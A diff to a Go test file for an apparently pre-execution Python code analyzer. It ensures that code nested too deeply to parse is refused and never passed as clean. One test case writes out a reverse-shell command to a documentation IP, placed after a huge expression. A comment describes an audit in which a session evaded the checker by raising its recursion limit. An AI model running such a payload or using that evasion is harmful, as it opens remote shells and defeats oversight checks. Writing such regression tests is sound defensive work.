@@ -386,12 +386,13 @@ func TestBoundedTimeAndSize(t *testing.T) {
 	}
 }
 
-// TestDeeplyNestedCode: code nested deeper than the checks reach, or than Python's parser
-// takes (it raises a bare MemoryError, as when memory runs out), is beyond the rule's
-// limits (refused with 422 under default), not a rule that cannot answer (503); a tree
-// deeper than the interpreter compiles at ten times its default recursion limit is code
-// that does not parse, which the runner reports. Each is asked twice: the second answer
-// comes from the cache and says the same.
+// TestDeeplyNestedCode: code nested deeper than the checks reach, than Python's parser
+// takes (it raises a bare MemoryError, as when memory runs out), or than the analyzer's
+// interpreter builds a tree for at ten times its default recursion limit, is beyond the
+// rule's limits (refused with 422 under default), not a rule that cannot answer (503)
+// and never clean: a session may have raised its interpreter's recursion limit in an
+// earlier execution (sys.setrecursionlimit), and then such code runs. Each is asked
+// twice: the second answer comes from the cache and says the same.
 func TestDeeplyNestedCode(t *testing.T) {
 	r := configured(t, `{"workers": 1, "timeout": "20s"}`)
 	for _, tc := range []struct{ name, code, want string }{
@@ -399,16 +400,13 @@ func TestDeeplyNestedCode(t *testing.T) {
 		// does not compile it (its limit is ~3,000), the analyzer parses it but cannot walk it.
 		{"deep for the checks", "import os\nx = os.system('id')" + strings.Repeat("+1", 6000) + "\n", "code nested too deeply to analyse"},
 		{"parser stack", "x = " + strings.Repeat("-", 500000) + "1\n", "out of memory parsing or analysing the code"},
-		{"deeper than compiles", "x = 1" + strings.Repeat("+1", 40000) + "\n", ""},
+		{"deeper than the parser's recursion limit", "x = 1" + strings.Repeat("+1", 40000) + "\n", "code nested too deeply to parse"},
+		// The audit's case: a session raised its limit, then sent a reverse shell after a
+		// 30,000-term sum, which ran unchecked.
+		{"payload after a deep sum", "x = 1" + strings.Repeat("+1", 30000) + "\nimport os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n", "code nested too deeply to parse"},
 	} {
 		for i := range 2 {
 			fs, err := r.Evaluate(context.Background(), governance.EvaluateRequest{Stage: governance.StagePre, ContentType: "code/python", Content: tc.code})
-			if tc.want == "" {
-				if err != nil || len(fs) != 0 {
-					t.Fatalf("%s (%d): %+v %v, want no findings (code that does not parse)", tc.name, i, fs, err)
-				}
-				continue
-			}
 			if err == nil || !strings.Contains(err.Error(), tc.want) || !errors.Is(err, governance.ErrBeyondLimits) {
 				t.Fatalf("%s (%d): %+v %v, want %q beyond the rule's limits", tc.name, i, fs, err, tc.want)
 			}
